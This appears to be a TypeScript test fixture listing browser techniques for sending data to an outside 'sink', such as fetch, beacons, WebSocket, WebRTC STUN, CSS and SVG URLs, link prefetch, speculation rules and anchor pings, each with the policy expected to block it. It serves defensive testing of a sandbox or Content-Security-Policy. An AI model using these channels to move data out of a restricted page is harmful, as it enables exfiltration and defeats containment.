import { loaded, type Attack } from './attack.ts'

const link =
  (rel: string) =>
  ({ sink }: { sink: string }): void => {
    const element = document.createElement('link')
    Object.assign(element, { rel, href: sink, as: 'image' })
    document.body.append(element)
  }

const style =
  (css: (sink: string) => string) =>
  ({ sink }: { sink: string }): void => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(css(sink))
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
  }

const missing = (name: string): Attack['run'] => {
  return ({ sink }) => Reflect.construct(Reflect.get(globalThis, name) as new () => unknown, [sink.replace('http', 'ws')])
}

/** Ways to send something out. */
export const networkAttacks: Attack[] = [
  { name: 'fetch, foreign host', run: ({ sink }) => fetch(sink), fails: 'refused', told: 'connect-src' },
  { name: 'fetch, our own server', run: () => fetch('/trpc/session.me'), fails: 'refused', told: 'connect-src' },
  {
    name: 'XMLHttpRequest',
    run: ({ sink }) => {
      const request = new XMLHttpRequest()
      request.open('GET', sink)
      request.send()
      return loaded(request)
    },
    fails: 'refused',
    told: 'connect-src',
  },
  { name: 'beacon', run: ({ sink }) => navigator.sendBeacon(sink, 'x'), fails: 'refused', told: 'sendBeacon' },
  {
    name: 'deferred fetch',
    run: ({ sink }) => (globalThis as unknown as { fetchLater(url: string): void }).fetchLater(sink),
    fails: 'refused',
    told: 'fetchLater',
  },
  { name: 'EventSource', run: missing('EventSource'), fails: 'refused', told: 'EventSource' },
  { name: 'WebSocket', run: missing('WebSocket'), fails: 'refused', told: 'WebSocket' },
  { name: 'WebSocketStream', run: missing('WebSocketStream'), fails: 'refused', told: 'WebSocketStream' },
  { name: 'WebTransport', run: missing('WebTransport'), fails: 'refused', told: 'WebTransport' },
  {
    name: 'WebRTC',
    run: ({ sink }) => new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(sink).host}` }] }),
    fails: 'refused',
    told: 'RTCPeerConnection',
  },
  { name: 'image', run: ({ sink }) => loaded(Object.assign(new Image(), { src: sink })), fails: 'refused', told: 'img-src' },
  {
    name: 'SVG image, use and filter',
    run: ({ sink }) =>
      document.body.insertAdjacentHTML(
        'beforeend',
        `<svg><image href="${sink}"/><use href="${sink}#x"/><filter><feImage href="${sink}"/></filter></svg>`,
      ),
    fails: 'in vain',
    told: 'img-src',
  },
  {
    name: 'CSS url()',
    run: style((sink) => `html { background: url(${sink}); cursor: url(${sink}), auto }`),
    fails: 'in vain',
    told: 'img-src',
  },
  { name: 'CSS @import', run: style((sink) => `@import url(${sink});`), fails: 'in vain' },
  {
    name: 'CSS @font-face',
    run: style((sink) => `@font-face { font-family: q; src: url(${sink}) } body::after { content: "x"; font-family: q }`),
    fails: 'in vain',
    told: 'font-src',
  },
  { name: 'FontFace', run: ({ sink }) => new FontFace('q', `url(${sink})`).load(), fails: 'refused', told: 'font-src' },
  {
    name: 'video',
    run: ({ sink }) => loaded(Object.assign(document.createElement('video'), { src: sink }), 'loadeddata'),
    fails: 'refused',
    told: 'media-src',
  },
  {
    name: 'video poster',
    run: ({ sink }) => document.body.append(Object.assign(document.createElement('video'), { poster: sink })),
    fails: 'in vain',
    told: 'img-src',
  },
  { name: 'link prefetch', run: link('prefetch'), fails: 'refused', told: '<link>' },
  { name: 'link preload', run: link('preload'), fails: 'refused', told: '<link>' },
  { name: 'link preconnect', run: link('preconnect'), fails: 'refused', told: '<link>' },
  { name: 'link dns-prefetch', run: link('dns-prefetch'), fails: 'refused', told: '<link>' },
  {
    name: 'link of a namespace of its own',
    run: ({ sink }) => {
      const element = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:link') as HTMLLinkElement
      Object.assign(element, { rel: 'dns-prefetch', href: sink })
      document.body.append(element)
    },
    fails: 'refused',
    told: '<x:link>',
  },
  {
    name: 'link by a cleaned markup parser',
    run: ({ sink }) =>
      (document.body as unknown as { setHTML(text: string, options: object): void }).setHTML(`<link rel="dns-prefetch" href="${sink}">`, {
        sanitizer: { elements: ['link'], attributes: ['rel', 'href'] },
      }),
    fails: 'refused',
    told: 'setHTML',
  },
  {
    name: 'speculation rules',
    run: ({ sink }) => {
      const script = document.createElement('script')
      script.type = 'speculationrules'
      script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [sink] }] })
      document.body.append(script)
    },
    fails: 'refused',
    told: '<script>',
  },
  {
    name: 'ping of a link',
    run: ({ sink }) => {
      const anchor = Object.assign(document.createElement('a'), { href: '#x', ping: sink })
      document.body.append(anchor)
      anchor.click()
    },
    fails: 'in vain',
    told: 'a link',
  },
]
